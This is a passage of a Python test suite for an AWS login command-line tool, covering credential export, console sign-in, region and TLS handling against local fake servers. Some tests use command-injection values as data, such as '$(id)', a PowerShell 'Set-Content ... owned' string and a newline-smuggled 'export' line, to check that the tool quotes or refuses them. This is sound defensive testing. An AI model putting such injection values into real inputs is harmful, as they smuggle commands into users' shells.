        self.tool(["logout"], terminal=False)
        self.assertEqual(self.tool(["whoami"], terminal=False).code, 10)

    def child_env(self, *args, **kw):
        code = ("import os, json; print(json.dumps(dict((k, os.environ.get(k)) for k in "
                "['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN', "
                "'AWS_CREDENTIAL_EXPIRATION', 'AWS_REGION', 'AWS_DEFAULT_REGION', "
                "'AWS_PROFILE', 'AWS_DEFAULT_PROFILE'])))")
        run = self.tool(list(args) + ["exec", "--", sys.executable, "-c", code],
                        terminal=False, **kw)
        self.assertEqual(run.code, 0, run)
        return json.loads(run.stdout)

    def test_exec_sets_the_credentials_and_removes_the_profile(self):
        env = self.child_env(env={"AWS_PROFILE": "default", "AWS_DEFAULT_PROFILE": "default"})
        self.assertEqual(env, {
            "AWS_ACCESS_KEY_ID": self.issued["AccessKeyId"],
            "AWS_SECRET_ACCESS_KEY": self.issued["SecretAccessKey"],
            "AWS_SESSION_TOKEN": self.issued["SessionToken"],
            "AWS_CREDENTIAL_EXPIRATION": self.issued["Expiration"],
            "AWS_REGION": None, "AWS_DEFAULT_REGION": None,
            "AWS_PROFILE": None, "AWS_DEFAULT_PROFILE": None})
        self.configure(username="alice", factor="auto", password=PASSWORD, region="eu-west-1")
        env = self.child_env()
        self.assertEqual((env["AWS_REGION"], env["AWS_DEFAULT_REGION"]),
                         ("eu-west-1", "eu-west-1"))

    def test_exec_passes_the_exit_status_through(self):
        run = self.tool(["exec", "--", sys.executable, "-c", "import sys; sys.exit(42)"],
                        terminal=False)
        self.assertEqual(run.code, 42)
        run = self.tool(["exec", "--", "no-such-command-here"], terminal=False)
        self.assertEqual(run.code, 127)
        self.assertIn("no-such-command-here: command not found", run.stderr)

    def test_exec_runs_the_shell_by_default_and_refuses_to_nest(self):
        shell = os.path.join(self.home, "fake-shell")
        self.write(shell, "#!/bin/sh\necho \"shell $AWS_LOGIN_EXEC $AWS_ACCESS_KEY_ID\"\n"
                   "exec %s %s exec -- true\n" % (sys.executable, SCRIPT), mode=0o755)
        run = self.tool(["exec"], terminal=False, env={"SHELL": shell})
        self.assertEqual(run.code, 2, run)
        self.assertEqual(run.stdout, "shell default %s\n" % self.issued["AccessKeyId"])
        self.assertIn("already inside `aws_login.py exec`", run.stderr)
        run = self.tool(["exec", "--", SCRIPT.replace("aws_login.py", "") and sys.executable,
                         SCRIPT, "exec", "--allow-nested", "--", "true"], terminal=False)
        self.assertEqual(run.code, 0, run)

    def test_exec_logs_in_first_when_needed(self):
        self.tool(["logout"], terminal=False)
        env = self.child_env()
        self.assertEqual(env["AWS_ACCESS_KEY_ID"], self.sts.issued[-1]["AccessKeyId"])
        self.assertEqual(len(self.sts.requests), 2)

    def write_awkward(self, secret):
        aws_login._FileStore("awk").write(aws_login.Credentials(
            "ASIAAWKWARD", secret, "tok'en$", aws_login._parse_timestamp("2100-01-01T00:00:00Z")),
            ADMIN)
        self.configure("awk", username="alice", factor="auto")

    def test_env_quotes_awkward_values_for_each_shell(self):
        secret = "it's\"$HOME\"`x`\\;$(id)|&<>!"     # printable ASCII: what AWS may send
        self.write_awkward(secret)
        run = self.tool(["--profile", "awk", "env"], terminal=False)
        self.assertEqual(run.code, 0, run)
        out = subprocess.check_output(
            ["sh", "-c", 'eval "$1"; printf "%s|%s|%s|%s" "$AWS_SECRET_ACCESS_KEY" '
             '"$AWS_SESSION_TOKEN" "${AWS_PROFILE-unset}" "$AWS_CREDENTIAL_EXPIRATION"',
             "sh", run.stdout], env=dict(os.environ, AWS_PROFILE="awk")).decode("utf-8")
        self.assertEqual(out, "%s|tok'en$|unset|2100-01-01T00:00:00Z" % secret)
        fish = self.tool(["--profile", "awk", "env", "--format", "fish"], terminal=False).stdout
        self.assertIn("set -gx AWS_SECRET_ACCESS_KEY 'it\\'s\"$HOME\"`x`\\\\;$(id)|&<>!';", fish)
        self.assertIn("set -e AWS_PROFILE;", fish)
        ps = self.tool(["--profile", "awk", "env", "--format", "powershell"],
                       terminal=False).stdout
        self.assertIn("$Env:AWS_SECRET_ACCESS_KEY = 'it''s\"$HOME\"`x`\\;$(id)|&<>!'", ps)
        self.assertIn("$Env:AWS_SESSION_TOKEN = 'tok''en$'", ps)
        data = json.loads(self.tool(["--profile", "awk", "env", "--format", "json"],
                                    terminal=False).stdout)
        self.assertEqual(data["AWS_SECRET_ACCESS_KEY"], secret)
        self.assertEqual(sorted(data), ["AWS_ACCESS_KEY_ID", "AWS_CREDENTIAL_EXPIRATION",
                                        "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"])

    def test_console_signs_in_through_the_federation_endpoint(self):
        federation = FakeFederation().start()
        self.addCleanup(federation.stop)
        run = self.tool(["console", "--print"], terminal=False,
                        env={"AWS_LOGIN_FEDERATION_URL": federation.url})
        self.assertEqual(run.code, 0, run)
        self.assertEqual(federation.sessions, [{
            "sessionId": self.issued["AccessKeyId"], "sessionKey": self.issued["SecretAccessKey"],
            "sessionToken": self.issued["SessionToken"]}])
        url = urlsplit(run.stdout.strip())
        self.assertEqual(url.scheme + "://" + url.netloc + url.path, federation.url)
        self.assertEqual(dict(parse_qsl(url.query)), {
            "Action": "login", "Issuer": "aws_login", "SigninToken": "signin-token-1",
            "Destination": "https://console.aws.amazon.com/"})
        run = self.tool(["console", "--print", "--destination",
                         "https://console.aws.amazon.com/s3/"], terminal=False,
                        env={"AWS_LOGIN_FEDERATION_URL": federation.url})
        self.assertIn("Destination=https%3A%2F%2Fconsole.aws.amazon.com%2Fs3%2F", run.stdout)

    def test_console_errors_by_kind(self):
        federation = FakeFederation().start()
        self.addCleanup(federation.stop)
        federation.override = (403, {"Content-Type": "application/json"}, b"{}")
        run = self.tool(["console", "--print"], terminal=False,
                        env={"AWS_LOGIN_FEDERATION_URL": federation.url})
        self.assertEqual(run.code, aws_login.SignInError.exit_code, run)
        self.assertIn("AWS sign-in gave no sign-in token (HTTP 403)", run.stderr)
        self.assertTrue(issubclass(aws_login.SignInError, aws_login.STSError))
        long_term = aws_login.Credentials("AKIALONGTERM", "secret", None, None)
        with self.assertRaises(aws_login.ConfigError):
            aws_login.console_url(long_term)

    def test_debug_console_shows_no_secret(self):
        federation = FakeFederation().start()
        self.addCleanup(federation.stop)
        run = self.tool(["--debug", "console", "--print"], terminal=False,
                        env={"AWS_LOGIN_FEDERATION_URL": federation.url})
        self.assertEqual(run.code, 0, run)
        self.assertIn("debug: GET %s?..." % federation.url, run.stderr)
        for secret in (self.issued["SecretAccessKey"], self.issued["SessionToken"]):
            self.assertNotIn(secret, run.stderr)
            self.assertNotIn(secret, run.stdout)

    def test_console_url_by_partition(self):
        federation = FakeFederation().start()
        self.addCleanup(federation.stop)
        os.environ["AWS_LOGIN_FEDERATION_URL"] = federation.url
        gov = aws_login.Credentials("ASIA", "s", "t", None)
        url = aws_login.console_url(gov, "aws-us-gov",
                                    ssl_context=aws_login._make_ssl_context())
        self.assertIn("Destination=https%3A%2F%2Fconsole.amazonaws-us-gov.com%2F", url)
        del os.environ["AWS_LOGIN_FEDERATION_URL"]
        self.assertEqual(aws_login._CONSOLES["aws-cn"][0],
                         "https://signin.amazonaws.cn/federation")


class CredentialTextTest(LoginTestCase):
    """env (every format) and exec refuse a key id, secret or token that is not
    printable ASCII (AWS sends nothing else), whichever store it came from."""

    INJECTION = "FQoG\u2019; Set-Content -Path x -Value owned; \u2019"
    CONFIG = ("[profile %s]\n"
              "credential_process = python3 aws_login.py --profile %s credential-process\n")

    def write_section(self, name, token):
        self.configure(name, username="alice", factor="auto")
        self.write(self.credentials_file, (
            "[%s]\naws_access_key_id = ASIABAD\naws_secret_access_key = secret\n"
            "aws_session_token = %s\naws_login_expiration = 2100-01-01T00:00:00Z\n"
            "aws_login_role_arn = %s\n" % (name, token, ADMIN)))

    def write_cache(self, name, key_id, secret, token):
        self.configure(name, username="alice", factor="auto")
        self.write(os.environ["AWS_CONFIG_FILE"], self.CONFIG % (name, name))
        self.assertEqual(aws_login._profile_mode(name), "process")
        self.write(aws_login._ProcessStore(name).path, "%s\nexpires %d\nrole %s\n%s\n" % (
            aws_login._CACHE_HEADER, 4102444800, ADMIN, json.dumps({
                "Version": 1, "AccessKeyId": key_id, "SecretAccessKey": secret,
                "SessionToken": token, "Expiration": "2100-01-01T00:00:00Z"})))

    def assert_refused_everywhere(self, name, what, code_point, secret):
        marker = os.path.join(self.home, "command-ran")
        for args in ([["env", "--format", f] for f in ("sh", "fish", "powershell", "json")]
                     + [["exec", "--", sys.executable, "-c",
                         "open(%r, 'w').close()" % marker]]):
            run = self.tool(["--profile", name] + args, terminal=False)
            self.assertEqual(run.code, 9, (args, run))
            self.assertEqual(run.stdout, "", args)
            self.assertEqual(run.stderr.count("\n"), 1, (args, run))
            self.assertRegex(run.stderr, "^aws_login: error: the %s of the stored credentials "
                             "holds U\\+%04X, which AWS never sends" % (what, code_point))
            self.assertNotIn(secret, run.stderr)
            self.assertFalse(os.path.exists(marker), args)

    def test_powershell_injection_from_the_credentials_file(self):
        self.write_section("ps", self.INJECTION)
        self.assert_refused_everywhere("ps", "session token", 0x2019, "Set-Content")

    @slow
    def test_line_breaks_nul_and_others_from_the_credential_process_cache(self):
        for field, value, code_point in (
                ("session token", "FQoG\nexport AWS_PROFILE=evil", 0x0a),
                ("secret access key", "abc\x00def", 0x00),
                ("access key id", "ASIA\x7fX", 0x7f),
                ("secret access key", "with space", 0x20),
                ("session token", "caf\u00e9", 0xe9)):
            values = {"access key id": "ASIAOK", "secret access key": "secret",
                      "session token": "token"}
            values[field] = value
            self.write_cache("pc", values["access key id"], values["secret access key"],
                             values["session token"])
            self.assert_refused_everywhere("pc", field, code_point, value)

    def test_printable_ascii_passes_and_powershell_doubles_every_quote(self):
        fine = aws_login.Credentials("!~", "!\"#$%&'()*+,-./09:;<=>?@AZ[\\]^_`az{|}~",
                                     "!~", None)
        self.assertEqual(aws_login.env_lines(fine, shell="powershell")[3],
                         "$Env:AWS_SECRET_ACCESS_KEY = "
                         "'!\"#$%&''()*+,-./09:;<=>?@AZ[\\]^_`az{|}~'")
        aws_login._exec_environment(aws_login.Credentials("A", "s", None, None), environ={})
        for index in range(3):
            for bad in (" ", "\x7f", "\x00", "\n", "\u2019", "\u00e9"):
                values = ["ASIA", "secret", "token"]
                values[index] += bad
                credentials = aws_login.Credentials(values[0], values[1], values[2], None)
                for shell in ("sh", "fish", "powershell", "json"):
                    with self.assertRaises(aws_login.CredentialsFileError):
                        aws_login.env_lines(credentials, shell=shell)
                with self.assertRaises(aws_login.CredentialsFileError):
                    aws_login._exec_environment(credentials, environ={})
        self.assertEqual(aws_login._powershell_quote("a'b\u2018c\u2019d\u201ae\u201bf\"g"),
                         "'a''b\u2018\u2018c\u2019\u2019d\u201a\u201ae\u201b\u201bf\"g'")
        self.assertEqual(aws_login._powershell_quote(self.INJECTION),
                         "'FQoG\u2019\u2019; Set-Content -Path x -Value owned; \u2019\u2019'")


class _UniqueTokenFederation(FakeFederation):
    """The federation endpoint, with a sign-in token no other process can hold."""

    def __init__(self):
        FakeFederation.__init__(self)
        self.token = "signin-%s" % uuid.uuid4().hex

    def _respond(self, handler):
        status, headers, body = FakeFederation._respond(self, handler)
        if status == 200:
            body = json.dumps({"SigninToken": self.token}).encode()
        return status, headers, body


# $BROWSER for the tests: records its argv, every command line that holds the
# token, the page's mode and text; "hang" waits without reading, "fail" fails.
BROWSER_SCRIPT = r'''#!%s
import json, os, sys, time
from urllib.parse import unquote, urlsplit
behaviour, token = os.environ["BROWSER_BEHAVIOUR"], os.environ["BROWSER_TOKEN"]
record = {"argv": sys.argv, "pid": os.getpid(), "token_cmdlines": []}
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open("/proc/%%s/cmdline" %% pid, "rb") as f:
            if token.encode() in f.read():
                record["token_cmdlines"].append(pid)
    except (OSError, ValueError):
        pass
if sys.argv[1].startswith("file://"):
    path = unquote(urlsplit(sys.argv[1]).path)
    record.update(path=path, mode=os.stat(path).st_mode & 0o777,
                  dir_mode=os.stat(os.path.dirname(path)).st_mode & 0o777)
    if behaviour == "read":
        with open(path) as f:
            record["page"] = f.read()
with open(os.environ["BROWSER_RECORD"] + ".tmp", "w") as f:
    json.dump(record, f)
os.rename(os.environ["BROWSER_RECORD"] + ".tmp", os.environ["BROWSER_RECORD"])
if behaviour == "hang":
    time.sleep(60)
sys.exit(1 if behaviour == "fail" else 0)
'''


class ConsoleTest(LoginTestCase):
    """console gives the browser a private page that redirects, never the sign-in
    token on a command line, and removes the page once the browser read it."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="alice", factor="auto", password=PASSWORD)
        self.assert_logged_in(self.tool(["login"], terminal=False))
        self.federation = _UniqueTokenFederation().start()
        self.addCleanup(self.federation.stop)
        self.browser = os.path.join(self.home, "browser")
        self.write(self.browser, BROWSER_SCRIPT % sys.executable, mode=0o755)
        self.record_path = os.path.join(self.home, "browser.json")
        empty = os.path.join(self.home, "empty-path")
        os.mkdir(empty)
        self.pages = os.path.join(self.home, ".aws-login", "console")
        # only $BROWSER: no real browser on the host is ever started
        self.env = {"AWS_LOGIN_FEDERATION_URL": self.federation.url, "BROWSER": self.browser,
                    "BROWSER_RECORD": self.record_path, "BROWSER_TOKEN": self.federation.token,
                    "BROWSER_BEHAVIOUR": "read", "PATH": empty, "DISPLAY": "",
                    "WAYLAND_DISPLAY": ""}

    def console(self, behaviour="read", args=()):
        env = dict(self.env, BROWSER_BEHAVIOUR=behaviour)
        return self.tool(["console"] + list(args), terminal=False, env=env)

    def record(self):
        with open(self.record_path) as f:
            return json.load(f)

    def assert_no_token_on_a_command_line(self, record):
        self.assertEqual(len(record["argv"]), 2, record)
        self.assertTrue(record["argv"][1].startswith("file://"), record)
        self.assertNotIn(self.federation.token, " ".join(record["argv"]))
        self.assertEqual(record["token_cmdlines"], [])

    def assert_no_pages(self):
        self.assertEqual(os.listdir(self.pages) if os.path.isdir(self.pages) else [], [])

    def test_the_browser_reads_a_private_page_that_is_removed_after(self):
        run = self.console()
        self.assertEqual(run.code, 0, run)
        self.assertEqual(run.stdout, "")
        self.assertIn("Opened the AWS console in your browser.", run.stderr)
        self.assertNotIn(self.federation.token, run.stderr)
        record = self.record()
        self.assert_no_token_on_a_command_line(record)
        self.assertEqual(os.path.dirname(record["path"]), self.pages)
        self.assertEqual((record["mode"], record["dir_mode"]), (0o600, 0o700))
        target = re.search(r'location\.replace\("([^"]+)"\)', record["page"]).group(1)
        self.assertIn('<meta http-equiv="refresh" content="0;url=%s">'
                      % target.replace("&", "&amp;"), record["page"])
        url = urlsplit(target)
        self.assertEqual(url.scheme + "://" + url.netloc + url.path, self.federation.url)
        self.assertEqual(dict(parse_qsl(url.query)), {
            "Action": "login", "Issuer": "aws_login", "SigninToken": self.federation.token,
            "Destination": "https://console.aws.amazon.com/"})
        # a detached waiter sees the read (the access time) and removes the page
        self.assertTrue(_wait_for(lambda: not os.path.exists(record["path"]), 30))
        self.assert_no_pages()

    def test_ctrl_c_while_the_browser_starts_removes_the_page(self):
        out = open(os.path.join(self.home, "out"), "wb")
        self.addCleanup(out.close)
        env = dict(os.environ, **dict(self.env, BROWSER_BEHAVIOUR="hang"))
        proc = subprocess.Popen([sys.executable, SCRIPT, "console"], env=env,
                                stdin=subprocess.DEVNULL, stdout=out, stderr=out,
                                start_new_session=True)
        self.addCleanup(lambda: proc.poll() is None and proc.kill())
        self.assertTrue(_wait_for(lambda: os.path.exists(self.record_path), 30))
        record = self.record()
        self.addCleanup(lambda: _process_state(record["pid"]) and os.kill(record["pid"], 9))
        self.assert_no_token_on_a_command_line(record)
        self.assertTrue(os.path.exists(record["path"]))
        # the waiter is the fork's fork (the fork between exits at once); it
        # holds /dev/null as 0, 1 and 2
        found = []
        self.assertTrue(_wait_for(lambda: found.extend(self.waiters(proc, null_fds=True))
                                  or found, 10))
        waiter = found[0]
        with open("/proc/%d/stat" % waiter) as f:     # a session of its own
            self.assertNotIn(int(f.read().rsplit(")", 1)[1].split()[3]),
                             (proc.pid, os.getsid(0)))
        self.assertEqual(os.readlink("/proc/%d/cwd" % waiter), "/")
        os.kill(proc.pid, signal.SIGINT)
        self.assertEqual(proc.wait(30), 130)
        self.assertFalse(os.path.exists(record["path"]))
        self.assert_no_pages()
        self.assertTrue(_wait_for(lambda: _process_state(waiter) in (None, "Z"), 10))

    def waiters(self, proc, null_fds=False):
        """Forks of the tool (the detached process that removes the page), or
        only those whose 0, 1 and 2 are /dev/null."""
        with open("/proc/%d/cmdline" % proc.pid, "rb") as f:
            cmdline = f.read()
        found = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open("/proc/%s/cmdline" % pid, "rb") as f:
                    if f.read() != cmdline or int(pid) == proc.pid:
                        continue
                if null_fds and [os.readlink("/proc/%s/fd/%d" % (pid, fd))
                                 for fd in (0, 1, 2)] != [os.devnull] * 3:
                    continue
            except OSError:                 # gone meanwhile
                continue
            found.append(int(pid))
        return found

    def test_without_a_browser_the_url_is_printed_and_no_page_stays(self):
        run = self.console("fail")
        self.assertEqual(run.code, 0, run)
        self.assertEqual(dict(parse_qsl(urlsplit(run.stdout.strip()).query))["SigninToken"],
                         self.federation.token)
        self.assert_no_token_on_a_command_line(self.record())
        self.assert_no_pages()

    def test_print_starts_no_browser_and_writes_no_page(self):
        run = self.console(args=["--print"])
        self.assertEqual(run.code, 0, run)
        self.assertIn("SigninToken=" + self.federation.token, run.stdout)
        self.assertFalse(os.path.exists(self.record_path))
        self.assert_no_pages()

    def test_pages_a_killed_waiter_left_are_swept_but_not_a_new_one(self):
        old, new = os.path.join(self.pages, "signin-old.html"), os.path.join(
            self.pages, "signin-new.html")
        for path in (old, new):
            self.write(path, "<html>a token</html>")
        os.utime(old, (time.time() - 3600, time.time() - 3600))
        self.assertEqual(self.console().code, 0)
        self.assertFalse(os.path.exists(old))
        self.assertTrue(os.path.exists(new))


class RegionTest(LoginTestCase):
    """A profile's region reaches the AWS CLI: written to the AWS config's
    profile when that has none, one line, every other byte kept."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.aws_config = os.environ["AWS_CONFIG_FILE"]

    def test_login_writes_the_region_where_the_aws_cli_reads_it(self):
        before = ("# my AWS config\r\n[profile other]\r\nregion = us-west-2\r\n\r\n"
                  "[default]\r\noutput = json ; mine\r\n# keep me\r\n\r\n[profile x]\r\n"
                  "output=text")
        self.write(self.aws_config, before, mode=0o644)
        self.configure(username="alice", factor="auto", password=PASSWORD, region="eu-west-1")
        self.assert_logged_in(self.tool(["login"], terminal=False))
        self.assertEqual(self.read(self.aws_config), before.replace(
            "; mine\r\n", "; mine\r\nregion = eu-west-1\r\n"))
        self.assertEqual(os.stat(self.aws_config).st_mode & 0o777, 0o644)   # its own mode

    def test_a_named_profile_gets_its_section(self):
        self.configure("prod", username="alice", factor="auto", password=PASSWORD,
                       region="eu-central-1")
        self.assert_logged_in(self.tool(["--profile", "prod", "login"], terminal=False),
                              profile="prod")
        self.assertEqual(self.read(self.aws_config), "[profile prod]\nregion = eu-central-1\n")

    def test_a_region_the_aws_config_has_stays(self):
        before = "[default]\nregion = us-east-2\n"
        self.write(self.aws_config, before)
        self.configure(username="alice", factor="auto", password=PASSWORD, region="eu-west-1")
        self.assert_logged_in(self.tool(["login"], terminal=False))
        self.assertEqual(self.read(self.aws_config), before)

    def test_a_region_for_this_time_only_is_not_written(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        self.assert_logged_in(self.tool(["login", "--region", "eu-west-1"], terminal=False))
        self.assert_logged_in(self.tool(["login", "--force"], terminal=False,
                                        env={"AWS_REGION": "eu-west-1"}))
        self.assertFalse(os.path.exists(self.aws_config))

    def test_configure_asks_for_it_and_writes_it(self):
        self.write(self.aws_config, "[default]\noutput = json\n")
        run = self.tool(["configure"], [
            ("ECP Endpoint URL [None]: ", self.idp.url), ("Username [None]: ", "alice"),
            ("Enable Keyring [False]: ", ""), ("Duo Factor [None]: ", "auto"),
            ("Role ARN [None]: ", ""), ("Region [None]: ", "Mars"),
            ("Region [None]: ", "eu-west-1"), ("Use credential_process [False]: ", "")])
        self.assertEqual(run.code, 0, run)
        self.assertIn("not an AWS region name", run.tty)
        self.assertEqual(aws_login.read_profile("default").region, "eu-west-1")
        self.assertEqual(self.read(self.aws_config), "[default]\noutput = json\n"
                                                     "region = eu-west-1\n")

    def test_configure_in_process_mode_writes_it_before_any_login(self):
        run = self.tool(["--profile", "p", "configure", "--ecp-endpoint-url", self.idp.url,
                         "--region", "ap-south-1", "--credential-process"], terminal=False)
        self.assertEqual(run.code, 0, run)
        parser = aws_login._parse_ini(self.read(self.aws_config), "c", "\x00")
        self.assertEqual(parser.get("profile p", "region"), "ap-south-1")
        self.assertIn("credential-process", parser.get("profile p", "credential_process"))
        self.assertEqual(self.idp.requests, [])


class ConsoleRegionTest(LoginTestCase):
    """console --region R and --service NAME land where the user works; the
    destination is built for the role's partition."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.federation = FakeFederation().start()
        self.addCleanup(self.federation.stop)
        self.env = {"AWS_LOGIN_FEDERATION_URL": self.federation.url}

    def destination(self, args=(), **options):
        options.setdefault("username", "alice")
        options.setdefault("factor", "auto")
        options.setdefault("password", PASSWORD)
        self.configure(**options)
        run = self.tool(["console", "--print"] + list(args), terminal=False, env=self.env)
        self.assertEqual(run.code, 0, run)
        return dict(parse_qsl(urlsplit(run.stdout.strip()).query))["Destination"], run

    def test_the_profiles_region_or_the_flags(self):
        self.assertEqual(self.destination(region="eu-west-1")[0],
                         "https://console.aws.amazon.com/console/home?region=eu-west-1")
        self.assertEqual(self.destination(["--region", "us-east-2"], region="eu-west-1")[0],
                         "https://console.aws.amazon.com/console/home?region=us-east-2")
        self.assertEqual(self.destination(["--region", "us-east-2"], region="")[0],
                         "https://console.aws.amazon.com/console/home?region=us-east-2")
        self.assertEqual(self.destination(region="")[0], "https://console.aws.amazon.com/")

    def test_a_service_is_a_shortcut_for_its_page(self):
        self.assertEqual(self.destination(["--service", "s3"], region="eu-west-1")[0],
                         "https://console.aws.amazon.com/s3/home?region=eu-west-1")
        self.assertEqual(self.destination(["--service", "EC2", "--region", "ap-south-1"])[0],
                         "https://console.aws.amazon.com/ec2/home?region=ap-south-1")

    def test_partition_aware(self):
        self.assertEqual(aws_login._console_destination("aws-us-gov", "us-gov-west-1", "iam"),
                         "https://console.amazonaws-us-gov.com/iam/home?region=us-gov-west-1")
        self.assertEqual(aws_login._console_destination("aws-cn", "cn-north-1"),
                         "https://console.amazonaws.cn/console/home?region=cn-north-1")
        self.assertEqual(aws_login._console_destination("aws-cn"), "https://console.amazonaws.cn/")

    def test_what_cannot_be_a_page_is_refused_before_the_sign_in(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        for args, code, words in (
                (["--service", "s3/../iam"], 2, "--service"),
                (["--service", "s3?region=x"], 2, "--service"),
                (["--service", "s3", "--destination", "https://console.aws.amazon.com/"], 2,
                 "--destination"),
                (["--region", "eu-west-1", "--destination", "https://console.aws.amazon.com/"],
                 2, "--destination"),
                (["--region", "Mars"], 3, "not an AWS region name"),
                (["--region", "cn-north-1"], 3, "partition")):
            run = self.tool(["console", "--print"] + args, terminal=False, env=self.env)
            self.assertEqual(run.code, code, (args, run))
            self.assertIn(words, run.stderr, args)
            self.assertEqual(run.stdout, "")
        self.assertEqual(self.federation.sessions, [])

    def test_the_chained_roles_one_hour_cap_is_named_when_more_is_asked(self):
        target = "arn:aws:iam::%s:role/Deploy" % ACCOUNT_B
        self.sts.external_ids[target] = "ext-42"
        chained = dict(chain_role_arn=target, chain_external_id="ext-42")
        _, run = self.destination(duration="7200", **chained)
        self.assertIn("one hour", run.stderr)
        self.assertIn("duration 7200", run.stderr)
        self.assertEqual(self.sts.requests[-1]["form"]["DurationSeconds"], "3600")
        for options in (dict(chained, duration="3600"),
                        dict(duration="7200", chain_role_arn=None, chain_external_id=None)):
            _, run = self.destination(["--region", "eu-west-1"], **options)
            self.assertNotIn("one hour", run.stderr, options)


class AwsTlsTest(LoginTestCase):
    """verify_ssl_certificate = false (or login --no-verify-ssl) is for the IdP,
    as in awscli-login: STS, whoami's GetCallerIdentity and console's sign-in
    are checked whatever it says, so an AWS endpoint that cannot prove its name
    is sent nothing.  A lab's own STS takes a setting of its own,
    verify_aws_certificate = false, which says so on every use."""

    FAKES = ((WRONG_HOST_CERT_PEM, WRONG_HOST_KEY_PEM), (UNTRUSTED_CERT_PEM, UNTRUSTED_KEY_PEM))

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="alice", factor="auto", password=PASSWORD)
        self.assert_logged_in(self.tool(["login"], terminal=False))

    def fake(self, cls, cert, key):
        """A fake AWS endpoint (or IdP) whose certificate is of another name or
        signed by itself; a fake STS knows the keys the real one issued."""
        server = cls(cert=cert, key=key).start()
        self.addCleanup(server.stop)
        if cls is FakeSTS:
            server.issued = self.sts.issued
        if cls is FakeIdP:
            server.users = self.idp.users
        return server

    def test_whoami_and_console_check_aws_whatever_verify_ssl_certificate_says(self):
        self.configure(verify_ssl_certificate="false")
        for cert, key in self.FAKES:
            sts, federation = self.fake(FakeSTS, cert, key), self.fake(FakeFederation, cert, key)
            env = {"AWS_ENDPOINT_URL_STS": sts.url, "AWS_LOGIN_FEDERATION_URL": federation.url}
            for args in (["whoami"], ["console", "--print"]):
                run = self.tool(args, terminal=False, env=env)
                self.assertEqual((run.code, run.stdout), (8, ""), run)
                self.assertIn("not trusted", run.stderr)
                self.assertIn("(verify_ssl_certificate in profile default turns off the "
                              "IdP's check alone; for a lab's own STS, set "
                              "verify_aws_certificate = false)", run.stderr)
                self.assertNotIn("CHECKING IS OFF", run.stderr)
            self.assertEqual((sts.requests, federation.requests), ([], []))

    def test_login_checks_sts_while_the_idp_goes_unchecked(self):
        before = self.read(self.credentials_file)
        idp, sts = self.fake(FakeIdP, *self.FAKES[1]), self.fake(FakeSTS, *self.FAKES[1])
        env = {"AWS_ENDPOINT_URL_STS": sts.url}
        self.configure(ecp_endpoint_url=idp.url, verify_ssl_certificate="false")
        for args in (["login", "--force"], ["--profile", "flag", "login", "--no-verify-ssl"]):
            self.configure("flag", ecp_endpoint_url=idp.url, username="alice", factor="auto",
                           password=PASSWORD)
            run = self.tool(args, terminal=False, env=env)
            self.assertEqual(run.code, 8, run)
            self.assertIn("TLS CERTIFICATE CHECKING IS OFF for the IdP", run.stderr)
            self.assertIn("TLS certificate of %s not trusted" % sts.host_port, run.stderr)
        self.assertEqual(len(idp.requests), 2)      # the IdP, unchecked, was asked
        self.assertEqual(sts.requests, [])          # STS was sent no assertion
        self.assertEqual(self.read(self.credentials_file), before)

    def test_verify_aws_certificate_false_reaches_a_lab_sts_and_says_so_each_time(self):
        sts, federation = self.fake(FakeSTS, *self.FAKES[1]), self.fake(FakeFederation,
                                                                         *self.FAKES[1])
        env = {"AWS_ENDPOINT_URL_STS": sts.url, "AWS_LOGIN_FEDERATION_URL": federation.url}
        self.configure(verify_aws_certificate="false")
        self.assertIs(aws_login.read_profile("default").verify_aws_certificate, False)
        warning = "TLS CERTIFICATE CHECKING IS OFF for AWS's endpoints"
        for args in (["whoami"], ["whoami"], ["console", "--print"], ["login", "--force"]):
            run = self.tool(args, terminal=False, env=env)
            self.assertEqual(run.code, 0, run)
            self.assertEqual(run.stderr.count(warning), 1, run.stderr)
            self.assertIn("(verify_aws_certificate in profile default)", run.stderr)
        self.assertEqual([r["form"]["Action"] for r in sts.requests],
                         ["GetCallerIdentity", "GetCallerIdentity", "AssumeRoleWithSAML"])
        self.assertEqual(len(federation.sessions), 1)
        # the IdP is still checked: that is verify_ssl_certificate's alone
        idp = self.fake(FakeIdP, *self.FAKES[1])
        self.configure(ecp_endpoint_url=idp.url, verify_aws_certificate="false")
        run = self.tool(["login", "--force"], terminal=False, env=env)
        self.assertEqual(run.code, 8, run)
        self.assertIn("TLS certificate of %s not trusted" % idp.host_port, run.stderr)
        self.assertEqual(idp.requests, [])

    def test_aws_ca_bundle_and_ca_bundle_still_add_trust(self):
        # the fake STS signed by itself is its own trust anchor
        sts = self.fake(FakeSTS, *self.FAKES[1])
        env = {"AWS_ENDPOINT_URL_STS": sts.url}
        anchor = os.path.join(self.home, "lab-sts.pem")
        self.write(anchor, UNTRUSTED_CERT_PEM)
        self.assertEqual(self.tool(["whoami"], terminal=False, env=env).code, 8)
        run = self.tool(["whoami"], terminal=False, env=dict(env, AWS_CA_BUNDLE=anchor))
        self.assertEqual((run.code, run.stderr), (0, ""), run)
        self.configure(ca_bundle=anchor)
        run = self.tool(["whoami"], terminal=False, env=env)
        self.assertEqual((run.code, run.stderr), (0, ""), run)
        self.assertEqual(len(sts.requests), 2)


# ---------------------------------------------------------------------------
# Credential server: `exec --server` and `serve`
# ---------------------------------------------------------------------------

# The command exec --server runs in these tests: it asks the server with urllib.
SERVER_CHILD = r'''
import json, os, signal, sys, time, urllib.error, urllib.request
URI = os.environ.get("AWS_CONTAINER_CREDENTIALS_FULL_URI")
TOKEN = os.environ.get("AWS_CONTAINER_AUTHORIZATION_TOKEN")
OPENER = urllib.request.build_opener(urllib.request.ProxyHandler({}))

def get(url=URI, token=TOKEN):
    headers = {} if token is None else {"Authorization": token}
    try:
        with OPENER.open(urllib.request.Request(url, headers=headers), timeout=30) as r:
            return r.status, json.loads(r.read().decode())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read().decode())

def note(path, text):
    with open(path, "a") as f:
        f.write(text + "\n")

mode, args = sys.argv[1], sys.argv[2:]
if mode == "probe":
